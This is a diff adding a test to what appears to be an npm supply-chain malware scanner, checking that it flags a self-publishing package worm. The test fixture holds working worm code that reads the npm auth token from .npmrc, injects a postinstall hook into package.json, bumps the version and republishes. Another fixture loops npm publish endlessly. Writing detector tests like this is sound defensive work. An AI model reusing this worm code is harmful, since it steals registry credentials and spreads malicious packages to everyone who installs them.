@@ -207,6 +207,35 @@ describe('worm-payload: self-publishing engines reach high on their own', () => 
     expect(r.score).toBeGreaterThanOrEqual(70);
   });
 
+  it('a token-stealing worm that injects a postinstall into the packages it republishes', () => {
+    const bundle = `const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { execSync } = require('child_process');
+const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+const token = (npmrc.match(/_authToken=(.+)/) || [])[1] || process.env.NPM_TOKEN;
+async function infect(dir) {
+  const file = path.join(dir, 'package.json');
+  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));
+  pkg.scripts = pkg.scripts || {};
+  pkg.scripts.postinstall = 'node bundle.js';
+  pkg.version = pkg.version.replace(/\\d+$/, (p) => String(Number(p) + 1));
+  fs.copyFileSync(__filename, path.join(dir, 'bundle.js'));
+  fs.writeFileSync(file, JSON.stringify(pkg, null, 2));
+  execSync('npm publish', { cwd: dir, env: { ...process.env, NPM_TOKEN: token } });
+}
+module.exports = infect;
+`;
+    const alone = run(fixture('stealer', { 'bundle.js': bundle, 'index.js': 'module.exports = 1;\n' }));
+    const finding = alone.findings.find((x) => x.messageId === 'selfPublishing')!;
+    expect(finding.data?.traits).toMatch(/injects an install hook/);
+    expect(finding.evidence.lifecycleInjection).toMatchObject({ line: 11 });
+    expect(alone.ids).toContain('registryManipulation');
+    expect(alone.score).toBeGreaterThanOrEqual(70);
+    const hooked = run(fixture('stealer-hooked', { 'bundle.js': bundle }, { scripts: { postinstall: 'node bundle.js' } }));
+    expect(hooked.level).toBe('critical');
+  });
+
   it('falls back to token search for a file that does not parse, and says so', () => {
     const typed = `import { execSync } from 'child_process';\nimport * as fs from 'fs';\nconst pkg: { name: string; version: string } = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nwhile (true) {\n  pkg.name = 'n' + Math.random();\n  fs.writeFileSync('package.json', JSON.stringify(pkg));\n  execSync('npm publish');\n}\n`;
     const r = run(fixture('typed', { ...scaffold, 'auto.ts': typed }));
